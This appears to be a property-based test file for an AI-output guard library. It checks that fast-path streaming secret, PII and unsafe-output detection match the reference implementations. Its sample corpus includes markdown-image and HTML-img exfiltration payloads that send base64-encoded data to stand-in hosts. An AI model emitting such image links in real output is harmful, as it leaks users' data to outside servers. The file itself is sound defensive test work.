import type { Detection } from '@bulwark/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createGuard } from '../src/guard.js';
import type { StreamOutputOptions } from '../src/guard-types.js';
import { identityNormalized } from '../src/identity-normalizer.js';
import { detectPii } from '../src/pii/pii-detector.js';
import { createRedactor } from '../src/redaction/redactor.js';
import { detectSecrets } from '../src/secrets/secret-detector.js';
import { pendingStart } from '../src/stream/pending-tail.js';
import { UnsafeOutputDetector } from '../src/unsafe-output/unsafe-output-detector.js';
import {
  PII_HARD_NEGATIVES,
  piiSamples,
  SECRET_HARD_NEGATIVES,
  secretSamples,
} from './support/leak-corpus.js';
import { referenceDetectSecrets } from './support/reference-secret-detector.js';
import {
  referencePendingStart,
  referenceStreamRedactor,
} from './support/reference-stream-redactor.js';

/**
 * The per-push fast paths (keyword-indexed secret rules, lazy PII overlap
 * marks, one-scan pending tail) must not change what a stream emits, holds
 * back or reports: each is compared with the implementation it replaced.
 */

const scope = { tenant: 't', conversation: 'c' };
const corpus = [
  ...secretSamples(11, 1).map((s) => s.text),
  ...piiSamples(12, 1).map((s) => s.text),
  ...SECRET_HARD_NEGATIVES,
  ...PII_HARD_NEGATIVES,
  'The quarter went well: revenue grew, costs were flat and the outlook is stable.',
  'Call +1 (415) 555-0134 or write to ann@example.com.',
  'password = ',
  'Authorization: Bearer ',
  '![chart](https://collect.example.net/p?d=c2VjcmV0LWRhdGEtMTIzNDU2Nzg5)',
  '<img src="https://x.example.org/?q=YWxsLXRoZS1kYXRhLWhlcmU=">',
  'DE89 3704 0044 0532 0130 00',
];

/** Corpus pieces, random (incl. non-ASCII) strings and separators, joined. */
const text = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...corpus) },
      { weight: 2, arbitrary: fc.string({ maxLength: 20 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
      { weight: 2, arbitrary: fc.constantFrom(' ', '\n', '\t', '\r\n', ': ', '=', '-----BEGIN ') },
    ),
    { maxLength: 6 },
  )
  .map((pieces) => pieces.join(''));

/** `value` cut at the given offsets (a random chunking). */
function chunksOf(value: string, cuts: readonly number[]): string[] {
  const at = [...new Set(cuts.map((c) => c % (value.length + 1)))].sort((a, b) => a - b);
  const chunks: string[] = [];
  let from = 0;
  for (const cut of at) {
    chunks.push(value.slice(from, cut));
    from = cut;
  }
  chunks.push(value.slice(from));
  return chunks;
}

/** The stream `guard.streamOutput` built before the fast paths, from the reference parts. */
function referenceStream(options: StreamOutputOptions) {
  const redactor = createRedactor();
  const unsafe = new UnsafeOutputDetector();
  const { categories } = options;
  return referenceStreamRedactor({
    detect: (value) => [...referenceDetectSecrets(value), ...detectPii(value)],
    transform: (segment, found) => {
      const replaced: readonly Detection[] =
        categories === undefined ? found : found.filter((d) => categories.includes(d.category));
      return options.restore
        ? redactor.apply(segment, replaced, scope, (gap) => redactor.restore(gap, scope))
        : redactor.apply(segment, replaced, scope);
    },
    block: (segment) =>
      unsafe
        .detect({
          text: segment,
          role: 'output',
          sinks: [],
          normalized: () => identityNormalized(segment),
        })
        .some((d) => d.score >= 0.8),
  });
}

const categoryChoices = fc.constantFrom<StreamOutputOptions['categories']>(
  undefined,
  ['secret'],
  ['pii'],
  ['secret', 'pii'],
  [],
);

describe('stream fast paths', () => {
  it('finds the same secrets as the detector before keyword indexing (property)', () => {
    fc.assert(
      fc.property(text, (value) => {
        expect(detectSecrets(value)).toEqual(referenceDetectSecrets(value));
      }),
      { numRuns: 1500 },
    );
    for (const value of corpus) expect(detectSecrets(value)).toEqual(referenceDetectSecrets(value));
  });

  it('holds back the same tail as before (property)', () => {
    fc.assert(
      fc.property(text, (value) => {
        for (let end = 0; end <= value.length; end++) {
          const buffer = value.slice(0, end);
          expect(pendingStart(buffer)).toBe(referencePendingStart(buffer));
        }
      }),
      { numRuns: 300 },
    );
  });

  it('emits, holds and reports exactly as before on random chunkings (property)', () => {
    fc.assert(
      fc.property(
        text,
        fc.array(fc.nat(), { maxLength: 30 }),
        fc.boolean(),
        categoryChoices,
        (value, cuts, restore, categories) => {
          const options: StreamOutputOptions =
            categories === undefined ? { restore } : { restore, categories };
          const actual = createGuard().streamOutput(scope, options);
          const expected = referenceStream(options);
          for (const chunk of chunksOf(value, cuts)) {
            expect(actual.push(chunk)).toEqual(expected.push(chunk));
          }
          expect(actual.end()).toEqual(expected.end());
        },
      ),
      { numRuns: 400 },
    );
  });

  it('streams word by word exactly as before, including secrets and PII', () => {
    for (const value of corpus) {
      const words = value.split(/(?<= )/);
      const actual = createGuard().streamOutput(scope);
      const expected = referenceStream({ restore: false });
      let emitted = '';
      for (const word of words) {
        const step = actual.push(word);
        expect(step).toEqual(expected.push(word));
        emitted += step.emit;
      }
      const last = actual.end();
      expect(last).toEqual(expected.end());
      if (!last.blocked) expect(emitted + last.emit).not.toBe('');
    }
  });
});
